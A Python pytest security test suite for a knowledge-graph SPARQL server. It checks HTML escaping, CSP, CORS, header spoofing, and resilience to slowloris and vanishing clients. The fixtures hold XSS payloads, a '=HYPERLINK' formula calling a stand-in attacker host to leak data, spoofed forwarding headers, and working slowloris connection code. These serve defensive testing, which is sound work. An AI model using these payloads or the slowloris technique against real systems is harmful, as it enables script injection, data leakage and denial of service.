"""Response hygiene and slow or vanishing clients (issue 7; THREATS.md C24, C25, D26, D27, D29).

A store built from the seeds plus one hostile article whose subject, fields and
text carry ``</script><script>alert(1)</script>``, ``javascript:`` and
``=HYPERLINK(...)``, served by a real ``kg serve``:

* every HTML page that shows those literals escapes them, links no ``javascript:``
  IRI, and sends a CSP without scripts and ``nosniff``;
* ``Host`` / ``X-Forwarded-*`` / ``Forwarded`` headers change no IRI anywhere;
* a CORS preflight from an evil origin gets ``*`` without credentials and may not
  send ``Authorization``; an update answer carries no CORS header;
* clients that dribble headers (slowloris) take no request thread or query
  worker; a client that disconnects in the middle of a query or a download
  frees its worker at the deadline.
"""

from __future__ import annotations

import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from urllib.parse import quote

import pytest
import requests

from kg.build import build
from tests.conftest import BASE, SEEDS, Server, serving
from tests.stress.support import cpu_seconds, descendants

TIMEOUT = 3.0
SCRIPT = "</script><script>alert(1)</script>"
HOSTILE = f"""---
subject: "Raid on Hostile Hill {SCRIPT}"
shortDescription: "javascript:alert(document.cookie)"
description: '=HYPERLINK("http://attacker.invalid/?leak","click me")'
author: "<img src=x onerror=alert(2)>"
tags:
  - "Raid on Hostile Hill {SCRIPT}"
date:
  - 5 March 2014
place:
  - Idlib Governorate Syria
---

## Fighting
On 5 March 2014, the {SCRIPT} Brigade attacked Saraqib, according to javascript:alert(3) sources.

On 6 March 2014, =HYPERLINK("http://attacker.invalid/","x") fighters withdrew from Saraqib.
"""
EV = "https://w3id.org/chronicon/event#"
HEADERS_THAT_LIE = {"Host": "attacker.example", "X-Forwarded-Host": "attacker.example", "X-Forwarded-Proto": "gopher",
                    "X-Forwarded-Prefix": "/attacker", "Forwarded": "host=attacker.example;proto=http",
                    "X-Original-URL": "/attacker", "X-Rewrite-URL": "/attacker"}


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    root = tmp_path_factory.mktemp("hygiene")
    articles = root / "articles"
    shutil.copytree(SEEDS, articles)
    (articles / "Raid_on_Hostile_Hill.md").write_text(HOSTILE, encoding="utf-8")
    report = build([articles], store=root / "store")
    assert report.ok, report.skipped
    with serving(root / "store", "--timeout", str(TIMEOUT), "--workers", "2") as server:
        yield server


def _select(server: Server, query: str, headers: dict[str, str] | None = None) -> list[dict[str, dict[str, str]]]:
    r = requests.get(server.sparql, params={"query": query},
                     headers={"Accept": "application/sparql-results+json", **(headers or {})}, timeout=30)
    assert r.status_code == 200, r.text
    return list(r.json()["results"]["bindings"])


def _hostile_nodes(server: Server) -> list[str]:
    rows = _select(server, 'SELECT DISTINCT ?s { ?s ?p ?o FILTER(isIRI(?s) && isLiteral(?o) && '
                           '(CONTAINS(STR(?o), "<script>") || CONTAINS(STR(?o), "javascript:") || CONTAINS(STR(?o), "=HYPERLINK"))) }')
    nodes = [b["s"]["value"] for b in rows]
    assert any("/event/" in n for n in nodes) and any("/claim/" in n for n in nodes), nodes
    return nodes


def _assert_inert_html(r: requests.Response) -> None:
    assert r.status_code == 200 and r.headers["Content-Type"] == "text/html; charset=utf-8"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    policy = dict((d.strip().split(" ", 1) + [""])[:2] for d in r.headers["Content-Security-Policy"].split(";") if d.strip())
    scripts = policy.get("script-src", policy.get("default-src", "*"))
    assert "default-src" in policy and not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:"} & set(scripts.split()), policy
    body = r.text.lower()
    assert SCRIPT not in r.text and "alert(1)</script>" not in body
    for tag, content in re.findall(r"(<script[^>]*>)(.*?)</script>", body, re.S):
        if 'type="application/json"' in tag:  # a data block: nothing in it may close it or open a tag
            assert "<" not in content, content[:200]
        else:  # only the app's own script files, never inline code
            assert re.fullmatch(r'<script src="/[^"]*"( nonce="[^"]*")?( defer)?>', tag) and not content.strip(), tag
    assert "onerror=" not in body.replace("onerror=alert(2)&gt;", "")
    assert 'href="javascript:' not in body and "href='javascript:" not in body and 'src="javascript:' not in body
    assert "<img src=x" not in body


def test_hostile_literals_are_inert_on_every_html_page(hostile_server: Server) -> None:
    pages = 0
    for node in _hostile_nodes(hostile_server):
        assert node.startswith(BASE)
        r = requests.get(f"{hostile_server.url}/id/{quote(node[len(BASE):], safe='/()_-.~!$&*+,;=:@%')}",
                         headers={"Accept": "text/html"})
        _assert_inert_html(r)
        assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in r.text or "javascript:" in r.text or "=HYPERLINK" in r.text
        pages += 1
    _assert_inert_html(requests.get(hostile_server.url + "/queries", headers={"Accept": "text/html"}))
    _assert_inert_html(requests.get(hostile_server.url + "/", headers={"Accept": "text/html"}))
    # If the endpoint renders results as HTML for browsers, those must be inert too.
    r = requests.get(hostile_server.sparql, params={"query": f"SELECT ?o {{ ?s <{EV}text> ?o }}", "format": "html"},
                     headers={"Accept": "text/html"})
    if r.status_code == 200 and r.headers["Content-Type"].startswith("text/html"):
        _assert_inert_html(r)
    assert pages >= 2


def test_csv_and_tsv_carry_formulas_as_data_with_the_right_type(hostile_server: Server) -> None:
    for accept in ("text/csv", "text/tab-separated-values"):
        r = requests.get(hostile_server.sparql, params={"query": f"SELECT ?o {{ ?s <{EV}text> ?o FILTER(CONTAINS(?o, 'HYPERLINK')) }}"},
                         headers={"Accept": accept})
        assert r.status_code == 200 and r.headers["Content-Type"].startswith(accept)
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert "HYPERLINK" in r.text  # SPARQL CSV/TSV carry the value as it is (see SECURITY.md)


def test_host_and_forwarded_headers_change_no_iri(hostile_server: Server) -> None:
    event = _select(hostile_server, f"SELECT ?e {{ ?e a <{EV}Event> ; <http://www.w3.org/2000/01/rdf-schema#label> ?l "
                                    "FILTER(CONTAINS(?l, 'Hostile Hill')) }")[0]["e"]["value"]
    tail = quote(event[len(BASE):], safe="/()_-.~!$&*+,;=:@%")
    checks = [
        (f"/id/{tail}", {"Accept": "text/turtle"}), (f"/id/{tail}", {"Accept": "application/ld+json"}),
        (f"/id/{tail}", {"Accept": "text/html"}), ("/export.ttl", {}), ("/export.jsonld", {}), ("/sparql", {"Accept": "text/turtle"}),
        ("/queries", {"Accept": "application/json"}), ("/context.jsonld", {}), ("/ontology", {"Accept": "text/turtle"}),
        ("/sparql?query=" + quote(f"CONSTRUCT {{ <{event}> ?p ?o }} WHERE {{ <{event}> ?p ?o }}"), {"Accept": "text/turtle"}),
        ("/sparql?query=" + quote("SELECT * { ?s ?p ?o } LIMIT 50"), {"Accept": "application/sparql-results+json"}),
    ]
    for path, headers in checks:
        honest = requests.get(hostile_server.url + path, headers=headers, timeout=30)
        lying = requests.get(hostile_server.url + path, headers={**headers, **HEADERS_THAT_LIE}, timeout=30)
        assert honest.status_code == lying.status_code == 200, (path, lying.status_code)
        assert "attacker.example" not in lying.text and "gopher:" not in lying.text and "/attacker/" not in lying.text, path
        assert honest.content == lying.content, path
        assert "attacker" not in lying.headers.get("Location", "") + lying.headers.get("Content-Location", "")


def test_cors_preflight_from_an_evil_origin_never_allows_credentials_or_the_token(hostile_server: Server) -> None:
    evil = {"Origin": "https://evil.example"}
    for path in ("/sparql", "/export.ttl", "/id/event/battle_of_waterloo", "/queries/events", "/health"):
        r = requests.options(hostile_server.url + path, headers={**evil, "Access-Control-Request-Method": "POST",
                                                                  "Access-Control-Request-Headers": "Authorization, Content-Type"})
        assert r.status_code == 204, path
        assert r.headers["Access-Control-Allow-Origin"] == "*" and "evil.example" not in str(r.headers)
        assert "Access-Control-Allow-Credentials" not in r.headers
        assert "authorization" not in r.headers.get("Access-Control-Allow-Headers", "").lower()
    # an update attempt (which carries a token) gets no CORS header at all
    r = requests.post(hostile_server.sparql, data={"update": "DROP ALL"}, headers={**evil, "Authorization": "Bearer x"})
    assert r.status_code == 403 and "Access-Control-Allow-Origin" not in r.headers


# --- slow and vanishing clients ---------------------------------------------------------------

def _port(server: Server) -> int:
    return int(server.url.rsplit(":", 1)[1])


def test_slowloris_clients_take_no_thread_and_no_worker(hostile_server: Server) -> None:
    stop = threading.Event()
    sockets: list[socket.socket] = []
    for _ in range(60):  # more than waitress's request threads (8) and the pool (2 + 2)
        s = socket.create_connection(("127.0.0.1", _port(hostile_server)), timeout=5)
        s.sendall(b"GET /sparql?query=ASK%20%7B%7D HTTP/1.1\r\nHost: x\r\n")
        sockets.append(s)

    def dribble() -> None:
        while not stop.is_set():
            for s in sockets:
                try:
                    s.sendall(b"X")
                except OSError:
                    pass
            time.sleep(0.5)

    thread = threading.Thread(target=dribble, daemon=True)
    thread.start()
    try:
        time.sleep(1.0)
        for _ in range(5):
            started = time.monotonic()
            r = requests.get(hostile_server.sparql, params={"query": "ASK {}"}, headers={"Accept": "application/sparql-results+json"},
                             timeout=10)
            assert r.status_code == 200 and time.monotonic() - started < 1.0
        health = requests.get(hostile_server.url + "/health", timeout=5).json()
        assert health["workers"] == 2
    finally:
        stop.set()
        thread.join()
        for s in sockets:
            s.close()


def _worker_cpu(server: Server) -> float:
    return sum(cpu_seconds(p) for p in descendants(server.process.pid) if p != server.process.pid)


def test_a_client_that_disconnects_mid_query_frees_its_worker_at_the_deadline(hostile_server: Server) -> None:
    query = quote("SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }")
    started = time.monotonic()
    for _ in range(2):  # both workers
        s = socket.create_connection(("127.0.0.1", _port(hostile_server)), timeout=5)
        s.sendall(f"GET /sparql?query={query} HTTP/1.1\r\nHost: x\r\nAccept: */*\r\n\r\n".encode())
        time.sleep(0.3)
        s.close()  # gone before any answer
    time.sleep(max(0.0, TIMEOUT + 1.0 - (time.monotonic() - started)))
    before = _worker_cpu(hostile_server)
    time.sleep(1.0)
    busy = _worker_cpu(hostile_server) - before
    assert busy < 0.3, f"query workers still burn {busy:.2f} CPU-s per second after the deadline"
    r = requests.get(hostile_server.sparql, params={"query": "ASK {}"}, timeout=5)
    assert r.status_code == 200
    assert requests.get(hostile_server.url + "/health").json()["workers"] == 2


def test_a_client_that_disconnects_mid_download_leaves_the_server_well(hostile_server: Server) -> None:
    for _ in range(5):
        with requests.get(hostile_server.url + "/export.nq", stream=True, timeout=30) as r:
            assert r.status_code == 200
            next(r.iter_content(1024))
        # closed after the first kilobyte
    s = socket.create_connection(("127.0.0.1", _port(hostile_server)), timeout=5)
    s.sendall(b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\nContent-Length: 100000\r\n\r\nASK")
    s.close()  # a body that never completes
    r = requests.get(hostile_server.url + "/export.nq", timeout=30)
    assert r.status_code == 200 and len(r.content) > 100_000
    assert hostile_server.process.poll() is None
